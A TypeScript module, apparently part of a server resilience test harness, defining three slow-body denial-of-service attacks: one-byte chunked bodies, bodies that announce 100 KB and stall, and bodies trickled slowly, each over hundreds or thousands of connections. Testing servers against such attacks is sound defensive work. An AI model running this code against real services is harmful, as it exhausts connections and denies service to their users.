// Bodies that never end: in chunks of one byte, or slowly. None has a token.
import { once } from 'node:events';
import type { Socket } from 'node:net';
import { type Attack, keep, openConnection, pause, postHead } from './attack.ts';

const CHUNK = '1\r\n \r\n';

/** Twelve connections, 99,000 chunks of one byte on each. */
export const tinyChunks: Attack = {
  name: 'bodies in chunks of one byte',
  run: ({ url }, signal) =>
    keep(
      12,
      async () => {
        const socket = openConnection(url, postHead('Transfer-Encoding: chunked'), signal);
        for (let sent = 0; sent < 99_000 && !socket.destroyed; sent += 1_000) {
          if (!socket.write(CHUNK.repeat(1_000))) await drained(socket);
          await pause(20, signal);
        }
        await ended(socket);
      },
      signal,
    ),
};

/** A thousand connections that announce 100 KB and send ten bytes. */
export const stalledBodies: Attack = {
  name: 'bodies that stall',
  run: ({ url }, signal) =>
    keep(
      1_000,
      async () => {
        const socket = openConnection(url, postHead('Content-Length: 100000'), signal);
        socket.write('          ');
        await ended(socket);
      },
      signal,
    ),
};

/** Six hundred connections that send 100 KB at twice the least rate. */
export const slowBodies: Attack = {
  name: 'slow bodies',
  run: ({ url }, signal) =>
    keep(
      600,
      async () => {
        const socket = openConnection(url, postHead('Content-Length: 100000'), signal);
        for (let sent = 0; sent < 98_000 && !socket.destroyed; sent += 2_000) {
          socket.write(' '.repeat(2_000));
          await pause(1_000, signal);
        }
        await ended(socket);
      },
      signal,
    ),
};

async function drained(socket: Socket): Promise<void> {
  await Promise.race([once(socket, 'drain'), ended(socket)]);
}

async function ended(socket: Socket): Promise<void> {
  socket.resume();
  if (!socket.destroyed) await once(socket, 'close');
}
